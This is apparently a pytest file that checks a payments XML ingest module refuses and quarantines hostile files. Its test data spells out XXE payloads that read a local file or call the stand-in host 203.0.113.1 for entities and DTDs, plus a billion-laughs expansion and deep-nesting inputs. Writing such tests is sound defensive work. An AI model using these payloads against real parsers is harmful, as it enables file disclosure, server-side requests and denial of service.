"""Hostile XML is refused cheaply, with a clear reason, and quarantined like any other bad file."""

from __future__ import annotations

import time

import pytest

from ingest import FileRejected, Limits, UpstreamFile, ingest_inbox
from tests.ingest.ingest_builders import PAYMENTS_NS, drop, payment, payments_xml

ROOT = f'<paymentAcceptances xmlns="{PAYMENTS_NS}" fileId="X" createdAt="2026-04-04T02:00:00Z">'


def parse(path, limits=None):
    upstream = UpstreamFile.open(path, limits)
    return list(upstream.batches())


def test_xxe_reading_a_local_file_is_refused(tmp_path):
    secret = drop(tmp_path, "secret.txt", "s3cret")
    text = (
        f'<?xml version="1.0"?>\n<!DOCTYPE p [<!ENTITY xxe SYSTEM "file://{secret}">]>\n'
        + payments_xml([payment(line_id="&xxe;")]).split("\n", 1)[1]
    )
    path = drop(tmp_path, "p.xml", text.replace("&amp;xxe;", "&xxe;"))
    with pytest.raises(FileRejected) as caught:
        parse(path)
    assert caught.value.category == "hostile"
    assert caught.value.violations[0].rule == "doctype"
    assert "s3cret" not in str(caught.value)


def test_xxe_calling_the_network_and_an_external_dtd_are_refused(tmp_path):
    for number, doctype in enumerate(
        [
            '<!DOCTYPE p [<!ENTITY x SYSTEM "http://203.0.113.1/x">]>',
            '<!DOCTYPE paymentAcceptances SYSTEM "http://203.0.113.1/evil.dtd">',
            '<!DOCTYPE p PUBLIC "-//X//Y" "http://203.0.113.1/x.dtd">',
        ]
    ):
        path = drop(tmp_path, f"p{number}.xml", f"<?xml version='1.0'?>{doctype}{ROOT}</paymentAcceptances>")
        started = time.perf_counter()
        with pytest.raises(FileRejected) as caught:
            parse(path)
        assert time.perf_counter() - started < 5  # no network timeout was waited for
        assert caught.value.violations[0].rule == "doctype"


def test_billion_laughs_is_refused_before_any_expansion(tmp_path):
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    body = "<line><lineId>&lol9;</lineId></line></paymentAcceptances>"
    text = f"<?xml version='1.0'?><!DOCTYPE lolz [{entities}]>{ROOT}{body}"
    path = drop(tmp_path, "p.xml", text)
    with pytest.raises(FileRejected) as caught:
        parse(path)
    assert caught.value.category == "hostile"


def test_an_entity_without_doctype_is_not_expanded(tmp_path):
    path = drop(tmp_path, "p.xml", payments_xml([payment("L1")]).replace("<lineId>L1", "<lineId>&undefined;"))
    with pytest.raises(FileRejected) as caught:
        parse(path)
    assert caught.value.category in ("malformed", "hostile")


def test_deep_nesting_is_refused(tmp_path):
    deep = "<line>" + "<a>" * 5000 + "</a>" * 5000 + "</line>"
    path = drop(tmp_path, "p.xml", f"{ROOT}{deep}</paymentAcceptances>")
    with pytest.raises(FileRejected) as caught:
        parse(path)
    assert caught.value.category in ("hostile", "schema")
    assert {v.rule for v in caught.value.violations} & {"max-depth"}


def test_the_depth_limit_is_configurable(tmp_path):
    deep = "<line>" + "<a>" * 10 + "</a>" * 10 + "</line>"
    path = drop(tmp_path, "p.xml", f"{ROOT}{deep}</paymentAcceptances>")
    with pytest.raises(FileRejected) as caught:
        parse(path, Limits(max_depth=8))
    [violation] = [v for v in caught.value.violations if v.rule == "max-depth"]
    assert "above the limit of 8" in violation.message
    assert violation.line_no == 1


def test_deep_nesting_outside_items_is_stopped_by_the_depth_limit(tmp_path):
    deep = "<a>" * 3000 + "</a>" * 3000
    path = drop(tmp_path, "p.xml", f"{ROOT}{deep}</paymentAcceptances>")
    with pytest.raises(FileRejected) as caught:
        parse(path)
    rules = {v.rule for v in caught.value.violations}
    assert "max-depth" in rules


def test_an_oversized_file_is_refused_from_its_size_alone(tmp_path):
    path = drop(tmp_path, "p.xml", payments_xml([payment(f"L{i}") for i in range(50)]))
    with pytest.raises(FileRejected) as caught:
        parse(path, Limits(max_bytes=1000))
    assert caught.value.violations[0].rule == "max-size"
    assert "1000" in caught.value.violations[0].message


def test_a_utf16_file_is_refused(tmp_path):
    path = drop(tmp_path, "p.xml", payments_xml([payment()]).replace("UTF-8", "UTF-16").encode("utf-16"))
    with pytest.raises(FileRejected) as caught:
        parse(path)
    assert caught.value.violations[0].rule == "encoding"


def test_hostile_files_are_quarantined_with_their_reason(home, warehouse):
    drop(
        home.payments_inbox,
        "evil.xml",
        f'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://203.0.113.1/x">{ROOT}</paymentAcceptances>',
    )
    report = ingest_inbox(warehouse, home)
    [outcome] = report.quarantined
    assert outcome.name == "evil.xml"
    reason = (home.quarantine / "evil.xml.reason.txt").read_text()
    assert "DOCTYPE" in reason
    assert warehouse.execute("SELECT kind, field, errors FROM raw.quarantined_files").fetchall() == [
        ("payments", None, 1)
    ]
    assert not list(home.payments_inbox.iterdir())
